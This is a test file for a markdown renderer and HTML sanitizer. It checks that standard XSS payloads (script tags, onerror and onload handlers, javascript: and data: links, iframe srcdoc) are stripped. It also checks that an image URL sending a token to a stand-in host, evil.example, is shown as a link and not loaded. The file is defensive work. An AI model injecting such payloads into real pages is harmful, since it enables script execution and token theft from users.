import { describe, expect, it } from "vitest";
import { renderMarkdown, sanitizeHtml } from "./render";

describe("renderMarkdown", () => {
  it("renders GitHub-flavoured markdown", () => {
    const html = renderMarkdown("# Title\n\n- [x] done\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n`code`");
    expect(html).toContain("<h1>Title</h1>");
    expect(html).toContain('type="checkbox"');
    expect(html).toContain("<table>");
    expect(html).toContain("<code>code</code>");
  });

  it.each([
    ["<script>alert(1)</script>", "<script"],
    ["<img src=x onerror=alert(1)>", "onerror"],
    ["[x](javascript:alert(1))", "javascript:"],
    ["[x](data:text/html;base64,PHNjcmlwdD4=)", "data:"],
    ['<iframe srcdoc="<script>alert(1)</script>"></iframe>', "iframe"],
    ['<svg onload="alert(1)"></svg>', "onload"],
  ])("removes %s", (input, forbidden) => {
    expect(renderMarkdown(input).toLowerCase()).not.toContain(forbidden);
  });

  it("shows remote images as links instead of loading them", () => {
    const html = renderMarkdown("![secret](https://evil.example/x.png?d=token)");
    expect(html).not.toContain("<img");
    expect(html).toContain('<a href="https://evil.example/x.png?d=token"');
    expect(html).toContain("image: secret");
  });
});

describe("sanitizeHtml", () => {
  it("keeps formatting and strips handlers", () => {
    expect(sanitizeHtml('<p onclick="x()"><strong>a</strong></p>')).toBe("<p><strong>a</strong></p>");
  });
});
